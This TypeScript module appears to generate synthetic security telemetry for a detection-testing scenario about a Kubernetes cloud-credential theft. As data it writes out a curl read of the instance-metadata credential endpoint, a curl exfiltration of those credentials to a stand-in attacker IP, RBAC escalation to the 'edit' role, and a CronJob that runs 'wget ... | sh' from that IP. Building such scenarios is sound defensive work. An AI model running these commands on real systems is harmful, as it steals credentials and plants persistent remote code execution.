import type { ScenarioRecord } from '../record.ts';
import { auditEvent, type Call, type Caller } from '../records/kubernetes.ts';
import { hubbleFlow } from '../records/network.ts';
import { tetragonExec } from '../records/runtime.ts';
import type { Story } from '../scenario.ts';
import type { World } from '../world.ts';

const minute_ms = 60_000;
/** An address of a documentation range (RFC 5737). */
const thief = '198.51.100.23';
const namespace = 'booking';
const user_agent = 'kubectl/v1.30.2 (linux/amd64) kubernetes/3968350';

const nodeRole: Caller = {
  username: 'arn:aws:sts::111122223333:assumed-role/node-role/i-0abc1234def567890',
  groups: ['system:authenticated'],
  source_ip: thief,
  user_agent,
};
const account: Caller = {
  username: `system:serviceaccount:${namespace}:metrics-agent`,
  groups: ['system:serviceaccounts', `system:serviceaccounts:${namespace}`, 'system:authenticated'],
  source_ip: thief,
  user_agent,
};

const binding = {
  kind: 'RoleBinding',
  metadata: { name: 'metrics-agent', namespace },
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'edit' },
  subjects: [{ kind: 'ServiceAccount', name: 'metrics-agent', namespace }],
};
const command = ['sh', '-c', `wget -qO- http://${thief}/p | sh`];
const cronJob = {
  kind: 'CronJob',
  metadata: { name: 'cache-refresh', namespace },
  spec: {
    schedule: '*/5 * * * *',
    jobTemplate: {
      spec: { template: { spec: { containers: [{ name: 'r', image: 'alpine:3.20', command }] } } },
    },
  },
};

/**
 * The credentials of a node's cloud role are read from a pod and sent out. From where they went, a service account is made
 * with the role, and with its token a job that returns.
 */
function records(world: World): readonly ScenarioRecord[] {
  const pod = world.podOf('report-builder');
  const at = (minutes: number): number => world.start_ms + Math.round(minutes * minute_ms);
  const call = (caller: Caller, asked: Call, minutes: number): ScenarioRecord =>
    auditEvent(world, caller, asked, at(minutes), 'key');
  const made = (resource: string, more: Partial<Call>): Call => ({
    verb: 'create',
    resource,
    namespace,
    name: 'metrics-agent',
    code: 201,
    ...more,
  });
  return [
    tetragonExec(
      world,
      pod,
      '/usr/bin/curl',
      '-s http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role',
      at(20.3),
      'key',
    ),
    hubbleFlow(world, pod, { ip: '169.254.169.254', port: 80 }, at(20.31), 'attack'),
    tetragonExec(world, pod, '/usr/bin/curl', `-s -d @/var/tmp/c https://${thief}/u`, at(20.8), 'key'),
    call(nodeRole, { verb: 'list', resource: 'secrets', code: 403 }, 31.4),
    call(nodeRole, made('serviceaccounts', {}), 33),
    call(nodeRole, made('rolebindings', { group: 'rbac.authorization.k8s.io', object: binding }), 33.3),
    call(nodeRole, made('serviceaccounts', { subresource: 'token' }), 34),
    call(account, made('cronjobs', { name: 'cache-refresh', group: 'batch', object: cronJob }), 36),
  ];
}

export const cloudCredentials: Story = {
  title: 'credentials of a cloud role read from analytics/report-builder, used from outside to plant a job',
  records,
};
